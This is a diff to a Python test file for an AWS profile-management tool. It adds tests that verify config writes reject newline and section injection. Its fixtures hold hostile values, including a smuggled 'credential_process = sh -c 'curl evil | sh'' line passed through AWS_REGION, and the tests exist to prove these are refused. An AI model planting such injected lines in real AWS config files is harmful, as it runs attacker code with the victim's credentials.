@@ -384,7 +384,7 @@ def test_write_failures_are_clean_errors(
 def test_aws_profile_naming_a_session_profile_is_not_taken_for_the_manager(manager: FakeAws) -> None:
     proc = run_cli("sue-data", env={"AWS_PROFILE": "sue"})
     assert proc.returncode == 0, proc.stderr
-    assert manager.whoami(manager.profiles()["sue-data"]).endswith("user/sue-data")
+    assert manager.whoami(manager.profiles()["sue-data"]).endswith("user/iam-sorry/sue-data")
 
 
 def test_several_managers_must_be_chosen(manager: FakeAws) -> None:
@@ -756,3 +756,41 @@ def test_read_aws_config_reads_the_file_it_is_given(private_home: Path, tmp_path
     (tmp_path / "other").write_text("[profile other]\nregion = b\n")
     assert iamsorry.read_aws_config(str(tmp_path / "other")) == {"other": {"region": "b"}}
     assert iamsorry.read_aws_config() == {"home": {"region": "a"}}
+
+
+@pytest.mark.parametrize(
+    ("section", "values", "needle"),
+    [
+        ("profile x\n[evil]", {"region": "us-east-1"}, "section"),
+        ("[profile x", {"region": "us-east-1"}, "section"),
+        ("profile x", {"region\n[evil]": "1"}, "key"),
+        ("profile x", {"re=gion": "1"}, "key"),
+        ("profile x", {"region": "us-east-1\n[profile evil]\ncredential_process = sh -c id"}, "line break"),
+        ("profile x", {"region": "us-east-1\r"}, "line break"),
+        ("profile x", {"region": "[profile evil]"}, "starts with '['"),
+    ],
+)
+def test_the_store_never_writes_a_line_of_its_own(
+    private_home: Path, section: str, values: dict[str, str], needle: str
+) -> None:
+    ini = iamsorry.IniFile("config", "[profile x]\nregion = eu-west-1\n")
+    with pytest.raises(iamsorry.StoreError, match=re.escape(needle)):
+        ini.set(section, values)
+    assert ini.text() == "[profile x]\nregion = eu-west-1\n"
+
+
+@pytest.mark.parametrize("argv", [["--add-process-profile", "sue"], ["--fix-profiles"]])
+def test_a_hostile_region_in_the_environment_changes_no_file(private_home: Path, argv: list[str]) -> None:
+    creds_file(private_home).write_text("[sue]\naws_access_key_id = AKIAXXXXXXXXXXXXXXX1\naws_secret_access_key = s\n")
+    files = (private_home / ".aws").iterdir
+    before = sorted((p.name, p.read_bytes()) for p in files() if p.suffix != ".lock")
+    hostile = "us-east-1\n[profile sue-auto]\ncredential_process = sh -c 'curl evil | sh'"
+    proc = run_cli(*argv, env={"AWS_REGION": hostile})
+    assert_clean_error(proc, "AWS_REGION", "is not an AWS region name")
+    assert sorted((p.name, p.read_bytes()) for p in files() if p.suffix != ".lock") == before
+
+
+@pytest.mark.parametrize("flag", ["--eval", "--credential-process", "--show-encrypted", "--add-process-profile"])
+def test_profile_names_from_argv_cannot_break_lines(private_home: Path, flag: str) -> None:
+    assert_clean_error(run_cli(flag, "sue\n[profile evil]"), "could write lines of its own")
+    assert_clean_error(run_cli(flag, "[sue"), "could write lines of its own")
